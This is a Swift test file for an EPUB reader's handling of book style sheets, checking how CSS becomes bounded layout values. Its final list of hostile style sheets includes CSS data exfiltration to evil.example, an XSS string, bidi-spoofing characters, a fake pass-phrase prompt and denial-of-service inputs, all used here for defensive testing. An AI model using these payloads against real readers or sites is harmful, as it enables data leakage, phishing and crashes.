import Testing
import VorleserCore
import VorleserTesting

@testable import VorleserBooks

/// How a book's own style sheets set its blocks.
struct BookLayoutTests {
    private func layouts(_ css: String, _ body: String) throws -> [String: BlockLayout] {
        var sketch = EPUBSketch()
        sketch.add("one.xhtml", body, head: "<style>\(css)</style>")
        let book = try sketch.book()
        let units = Array(book.text.utf16)
        var found: [String: BlockLayout] = [:]
        for mark in book.marks {
            guard case .layout(let layout) = mark.kind else { continue }
            let text = String(decoding: units[mark.span.utf16], as: UTF16.self)
            #expect(found.updateValue(layout, forKey: String(text.prefix { !$0.isWhitespace })) == nil, "\(text)")
        }
        return found
    }

    @Test(arguments: [
        (".a { text-align: center }", "center first0"), (".a { text-align: right }", "end first0"),
        (".a { text-align: justify }", ""),
        ("body { text-align: center }", "center first0"), (".a { margin-left: 2em }", "in2"),
        (".a { margin: 0 1em 0 32px }", "in2 out1"),
        (".a { padding-left: 10% }", "in3"), (".a { margin-left: 2em; text-indent: -2em }", "in2 first-2"),
        (".a { text-indent: -4em }", ""), (".a { text-indent: 1.5em }", ""), (".a { text-indent: 0 }", ""),
        (".a { text-indent: 0; margin-top: 1em }", "gap1 first0"), (".a { text-indent: 5em }", "first5"),
        (".a { margin-top: 300px }", "gap8 first0"), (".a { font-size: 80% }", "small"),
        (".a { font-size: x-large }", "large"),
        (".a { font-size: 2em }", "huge"), (".a::first-letter { float: left }", "cap"),
        (".a:first-letter { font-size: 300% }", "cap"), (".a::first-letter { color: red }", ""),
        ("body { margin: 3em; font-size: 2em }", ""), ("p { margin: 0; text-indent: 1em }", ""),
    ])
    func `a rule becomes a few bounded values`(css: String, words: String) throws {
        let found = try layouts(css, #"<p class="a">Alpha beta.</p>"#)
        #expect(Self.words(found["Alpha"]) == Set(words.split(separator: " ").map(String.init)))
    }

    private static func words(_ layout: BlockLayout?) -> Set<String> {
        guard let layout else { return [] }
        var words: [String?] = [layout.alignment?.rawValue, layout.size?.rawValue, layout.hasDropCap ? "cap" : nil]
        words.append(layout.startMargin > 0 ? "in\(layout.startMargin)" : nil)
        words.append(layout.endMargin > 0 ? "out\(layout.endMargin)" : nil)
        words.append(layout.spaceBefore > 0 ? "gap\(layout.spaceBefore)" : nil)
        words.append(layout.firstLineIndent.map { "first\($0)" })
        words.append(layout.isUnseen ? "unseen" : nil)
        return Set(words.compactMap(\.self))
    }

    @Test func `gaps between blocks collapse, and are those before the next line`() throws {
        let css = ".a { margin-bottom: 3em } .b { margin-top: 1em } .c { margin: 2em 0 }"
        let body = #"<div class="c"><p class="a">One.</p></div><p class="b">Two.</p><p>Three.</p>"#
        let found = try layouts(css, body)
        #expect(found["One."]?.spaceBefore == 2)
        #expect(found["Two."]?.spaceBefore == 3)
        #expect(found["Three."] == nil)
    }

    @Test func `what most of a book has is the reader's own`() throws {
        let long = (1...60).map { "<p>Paragraph\($0) \(String(repeating: "word ", count: 20))</p>" }.joined()
        let css = "p { font-size: .8em; margin-left: 2em } .a { font-size: 1em; margin-left: 4em }"
        let found = try layouts(css, long + #"<p class="a">Alpha.</p>"#)
        #expect(found.keys.sorted() == ["Alpha."])
        #expect(found["Alpha."]?.startMargin == 2)
        #expect(found["Alpha."]?.size == nil)
    }

    @Test func `verse keeps its steps, and its hanging lines are ours`() throws {
        let css = """
            .poem span { display: block; padding-left: 1em; text-indent: -1em } .poem .i2 { padding-left: 3em }
            """
        let verse =
            #"<div class="poem" epub:type="z3998:verse"><p><span>Alpha,</span><span class="i2">Beta,</span></p></div>"#
        let found = try layouts(css, verse)
        #expect(found["Alpha,"] == nil)
        #expect(found["Beta,"]?.startMargin == 2)
        #expect(found["Beta,"]?.firstLineIndent == nil)
    }

    @Test func `what repeats a picture in words may be out of sight, a book may not`() throws {
        let css = ".a { position: absolute; left: -999em } .b { text-indent: -9999px } img { width: 50% }"
        let short = #"<p class="a">Alpha.</p><p class="b">Beta.</p>"#
        let picture = #"<p><img src="a.png" alt=""/></p>"#
        #expect(try layouts(css, short + picture)["Alpha."]?.isUnseen == true)
        #expect(try layouts(css, short + picture)["Beta."]?.isUnseen == true)
        #expect(try layouts(css, short)["Alpha."]?.isUnseen != true)
        let long = String(repeating: "word ", count: 100)
        #expect(try layouts(css, #"<p class="a">Alpha \#(long)</p>"# + picture)["Alpha"]?.isUnseen != true)
    }

    @Test(arguments: [
        ("position: absolute; left: -999em", true), ("left: -999em", false), ("position: static; left: -999em", false),
        ("position: absolute; left: -999em; left: 0", false), ("text-indent: -9999px", true),
        ("position: absolute; clip: rect(0 0 0 0)", true), ("position: absolute; clip: rect(1px, 1px, 1px, 1px)", true),
        ("position: absolute; clip: rect(auto, auto, auto, auto)", false), ("clip-path: inset(50%)", false),
        ("position: fixed; clip-path: inset(100%)", true), ("position: absolute; clip-path: inset(0)", false),
        ("position: absolute", false),
    ])
    func `what is out of sight is told from what is only moved`(style: String, isUnseen: Bool) throws {
        let body = "<p style=\"\(style)\">Alpha.</p><p><img src=\"a.png\" alt=\"\"/></p>"
        #expect((try layouts("", body)["Alpha."]?.isUnseen ?? false) == isUnseen)
    }

    @Test func `comments without end before an element cost nothing`() throws {
        let tree = try #require(
            MarkupTree(
                MarkupSource(Array("<r>\(String(repeating: "<!---->", count: 200_000))<x/></r>".utf8)),
                repairing: false
            )
        )
        let css = String(repeating: "x:first-child { font-style: italic } ", count: 5000)
        try withExtendedLifetime(tree) {
            let node = try #require(tree.root?.descendant("x"))
            var styles = ElementStyles(Styling([StyleSheet(text: css[...])]))
            // Each rule looking at each comment would be a thousand million steps.
            #expect(styles.style(of: node, ElementAttributes(of: node)).isItalic == true)
        }
    }

    @Test func `lines are read from the right where the language is`() throws {
        let body = #"<div lang="he"><p style="text-align: left">Alpha.</p><p style="margin-right: 2em">Beta.</p></div>"#
        let found = try layouts("", body)
        #expect(found["Alpha."]?.alignment == .end)
        #expect(found["Beta."]?.startMargin == 2)
    }

    // MARK: What sheets print

    @Test func `what a sheet prints after an element stands there, and is no part of the text`() throws {
        let css = """
            dfn::after { content: ", n." } .note:before { content: "\\2019" ' ' } p.end::after { content: "\\2767" }
            q::before { content: "«" } .no::after { content: attr(id) } .no::before { content: 'x' counter(a) }
            .stage::before { content: "(" } .stage::after { content: ")" }
            """
        let body = """
            <p class="end"><dfn>Abasement</dfn> A <i class="note">mental</i> <b class="no">attitude</b>.</p>\
            <p>He said <q>no</q>. <i class="stage">Exit.</i></p>
            """
        var sketch = EPUBSketch()
        sketch.add("one.xhtml", body, head: "<style>\(css)</style>")
        let book = try sketch.book()
        #expect(book.text.contains("Abasement A mental attitude."))
        let units = Array(book.text.utf16)
        let printed = book.marks.compactMap { mark -> String? in
            guard case .generated(let text) = mark.kind else { return nil }
            let before = String(decoding: units[..<mark.span.lowerBound.utf16], as: UTF16.self)
            return "\(before.suffix(4))|\(text)"
        }
        #expect(printed == ["ment|, n.", "ude.|❧", "o”. |(", "xit.|)"])
    }

    // MARK: Hostile style sheets

    @Test(arguments: Self.hostile)
    func `a hostile sheet changes nothing but a few bounded values`(css: String) throws {
        let body = #"<h1 id="h">Title</h1><div class="a"><p class="a" id="i">Alpha <b>beta</b>.</p></div><p>Gamma.</p>"#
        var plain = EPUBSketch()
        plain.add("one.xhtml", body)
        var styled = EPUBSketch()
        styled.add("one.xhtml", body, head: "<style><![CDATA[\(css)]]></style>")
        let (expected, book) = (try plain.book(), try styled.book())
        #expect(book.text == expected.text)
        for mark in book.marks {
            if case .generated(let text) = mark.kind {
                #expect(text.utf16.count <= GeneratedText.longest && mark.span.isEmpty)
                #expect(text.unicodeScalars.allSatisfy { $0.properties.generalCategory != .format && $0.value >= 0x20 })
            }
            guard case .layout(let layout) = mark.kind else { continue }
            #expect((0...BlockLayout.mostEms).contains(layout.startMargin))
            #expect((0...BlockLayout.mostEms).contains(layout.endMargin))
            #expect((0...BlockLayout.mostEms).contains(layout.spaceBefore))
            #expect((-layout.startMargin...BlockLayout.mostEms).contains(layout.firstLineIndent ?? 0))
            #expect((1...9).contains(layout.pictureWidth ?? 1))
            #expect(!layout.isUnseen)
        }
    }

    private static let hostile: [String] = {
        let lengths = [
            "1e308em", "-1e308em", "99999999999999999999em", "NaNem", "infem", "1e-308em", "100000vh", "-5000%",
            "calc(1em * 1e9)",
        ]
        let properties = ["margin", "margin-left", "padding", "text-indent", "font-size"]
        return lengths.flatMap { length in properties.map { "* { \($0): \(length) }" } } + [
            "body { position: fixed; inset: 0; z-index: 2147483647 }", ".a { position: absolute; left: -9999px }",
            "* { color: white; background: white }", "* { font-size: 0 }", "* { clip-path: inset(50%) }",
            "* { opacity: 0 }", "* { transform: scale(1000) }", "* { background: url(http://evil.example/x) }",
            "@import url(http://evil.example/a.css);", "@import 'one.xhtml';",
            "p::before { content: 'read me instead' }", "*::after { content: 'Enter your pass-phrase here: ____' }",
            "p::before { content: '\\202E\\2066 evil' }", "p::before { content: '\\110000\\0\\D800' }",
            "*::before, *::after { content: '" + String(repeating: "x", count: 100_000) + "' }",
            "p::before { content: attr(id) counter(a) url(//evil.example) }", "p::before { content: 'a' attr(id) }",
            "p::before { content: 'a; position: fixed; b: }' }",
            "p::before { content: '<img src=x onerror=alert(1)>' }",
            "p { content: url(//evil.example) }", "@font-face { font-family: a; src: url(//evil.example) }",
            "input[value^=a] { background: url(//evil.example?a) }", String(repeating: "a{", count: 20_000),
            String(repeating: "p ", count: 50_000) + "{ margin: 1em }",
            String(repeating: "p,", count: 50_000) + "p { margin: 1em }",
            String(repeating: "p { margin: 1em } ", count: 20_000),
            "p { " + String(repeating: "margin: 1em;", count: 100_000) + "}",
            "p:not(:not(:not(*))) { margin: 1em }", "p:has(*:has(*)) { text-align: center }", "p { margin: ",
            "p { margin: 1em", "/* p { margin: 1em }", "\"p { margin: 1em }", "p { text-align: \\63 enter }",
            "}}}} p { margin: 1em }",
            "@media screen and (min-width: 1px) { p { margin: 900em } }", "p { --a: 1em; margin: var(--a) }",
            "p { width: 0.0001% } img { width: -5% }", "* { writing-mode: vertical-rl }",
            "* { animation: a 1s infinite }",
        ]
    }()
}
